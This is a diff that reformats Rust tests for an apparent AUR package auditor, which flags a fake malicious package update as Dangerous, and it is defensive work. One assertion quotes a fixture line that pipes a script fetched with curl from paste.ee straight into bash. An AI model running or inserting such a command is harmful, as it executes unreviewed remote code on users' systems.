@@ -21,13 +21,27 @@ fn setup() -> (Server, AurClient) {
 #[tokio::test]
 async fn audit_package_combines_audit_trust_and_history() {
     let (_srv, c) = setup();
-    let a = archgate_aur::audit_package(&c, "evil-pkg").await.expect("audit");
+    let a = archgate_aur::audit_package(&c, "evil-pkg")
+        .await
+        .expect("audit");
     assert_eq!(a.report.verdict, Verdict::Dangerous);
-    assert!(a.report.findings.iter().any(|f| f.id == "AUR-EXEC-REMOTE" && f.line == 14));
-    assert!(a.report.findings.iter().any(|f| f.id == "AUR-PKGMGR-INSTALL" && f.file == "evil-pkg-deps.install"));
+    assert!(
+        a.report
+            .findings
+            .iter()
+            .any(|f| f.id == "AUR-EXEC-REMOTE" && f.line == 14)
+    );
+    assert!(
+        a.report
+            .findings
+            .iter()
+            .any(|f| f.id == "AUR-PKGMGR-INSTALL" && f.file == "evil-pkg-deps.install")
+    );
     assert!(a.trust.iter().any(|t| t.level == "warning" && t.signal.contains("never changed this package before")));
     assert_eq!(a.recent_history.len(), 2);
-    let g = archgate_aur::audit_package(&c, "good-pkg").await.expect("good");
+    let g = archgate_aur::audit_package(&c, "good-pkg")
+        .await
+        .expect("good");
     assert_eq!(g.report.verdict, Verdict::Ok);
     assert!(g.trust.iter().any(|t| t.signal.starts_with("orphaned")));
 }
@@ -35,22 +49,47 @@ async fn audit_package_combines_audit_trust_and_history() {
 #[tokio::test]
 async fn diff_shows_every_file_and_audits_what_the_change_adds() {
     let (_srv, c) = setup();
-    let d = archgate_aur::diff(&c, "evil-pkg", None, None).await.expect("diff");
+    let d = archgate_aur::diff(&c, "evil-pkg", None, None)
+        .await
+        .expect("diff");
     assert_eq!(d.from.version.as_deref(), Some("1.0-1"));
     assert_eq!(d.to.version.as_deref(), Some("1.0-2"));
-    let paths: Vec<(&str, &str)> = d.files.iter().map(|f| (f.path.as_str(), f.change)).collect();
-    assert_eq!(paths, [(".SRCINFO", "modified"), ("PKGBUILD", "modified"), ("evil-pkg-deps.install", "added")]);
+    let paths: Vec<(&str, &str)> = d
+        .files
+        .iter()
+        .map(|f| (f.path.as_str(), f.change))
+        .collect();
+    assert_eq!(
+        paths,
+        [
+            (".SRCINFO", "modified"),
+            ("PKGBUILD", "modified"),
+            ("evil-pkg-deps.install", "added")
+        ]
+    );
     let pk = &d.files[1].unified;
-    assert!(pk.contains("+  curl -fsSL https://paste.ee/r/x | bash"), "{pk}");
+    assert!(
+        pk.contains("+  curl -fsSL https://paste.ee/r/x | bash"),
+        "{pk}"
+    );
     let ids: Vec<&str> = d.audit.report.findings.iter().map(|f| f.id).collect();
-    for want in ["AUR-EXEC-REMOTE", "AUR-PKGMGR-INSTALL", "AUR-DIFF-CREDITS-REWRITTEN", "AUR-DIFF-INSTALL-NEW"] {
+    for want in [
+        "AUR-EXEC-REMOTE",
+        "AUR-PKGMGR-INSTALL",
+        "AUR-DIFF-CREDITS-REWRITTEN",
+        "AUR-DIFF-INSTALL-NEW",
+    ] {
         assert!(ids.contains(&want), "{want} missing from {ids:?}");
     }
     assert_eq!(d.audit.report.verdict, Verdict::Dangerous);
     // Named versions work too.
-    let d2 = archgate_aur::diff(&c, "good-pkg", Some("2.0-1"), Some("2.1-1")).await.expect("by version");
+    let d2 = archgate_aur::diff(&c, "good-pkg", Some("2.0-1"), Some("2.1-1"))
+        .await
+        .expect("by version");
     assert_eq!(d2.audit.report.verdict, Verdict::Ok);
-    let e = archgate_aur::diff(&c, "good-pkg", Some("9.9-1"), None).await.expect_err("unknown version");
+    let e = archgate_aur::diff(&c, "good-pkg", Some("9.9-1"), None)
+        .await
+        .expect_err("unknown version");
     assert_eq!(e.kind(), "version_not_found");
 }
 
@@ -63,13 +102,30 @@ async fn review_updates_puts_the_dangerous_update_first() {
         ("local-only".to_owned(), "1-1".to_owned()),
         ("good-pkg-current".to_owned(), "1-1".to_owned()),
     ];
-    let r = archgate_aur::review_updates(&c, &installed).await.expect("review");
-    let order: Vec<(&str, Option<Verdict>)> = r.updates.iter().map(|u| (u.name.as_str(), u.verdict)).collect();
-    assert_eq!(order, [("evil-pkg", Some(Verdict::Dangerous)), ("good-pkg", Some(Verdict::Ok))]);
+    let r = archgate_aur::review_updates(&c, &installed)
+        .await
+        .expect("review");
+    let order: Vec<(&str, Option<Verdict>)> = r
+        .updates
+        .iter()
+        .map(|u| (u.name.as_str(), u.verdict))
+        .collect();
+    assert_eq!(
+        order,
+        [
+            ("evil-pkg", Some(Verdict::Dangerous)),
+            ("good-pkg", Some(Verdict::Ok))
+        ]
+    );
     assert!(r.not_in_aur.contains(&"local-only".to_owned()));
     let evil = &r.updates[0];
-    assert_eq!(evil.diff.as_ref().map(|d| d.from.commit.clone()), Some(fake_aur::id(0x11)));
-    let up = archgate_aur::review_updates(&c, &[("good-pkg".to_owned(), "2.1-1".to_owned())]).await.expect("current");
+    assert_eq!(
+        evil.diff.as_ref().map(|d| d.from.commit.clone()),
+        Some(fake_aur::id(0x11))
+    );
+    let up = archgate_aur::review_updates(&c, &[("good-pkg".to_owned(), "2.1-1".to_owned())])
+        .await
+        .expect("current");
     assert!(up.updates.is_empty());
     assert_eq!(up.up_to_date, ["good-pkg"]);
 }
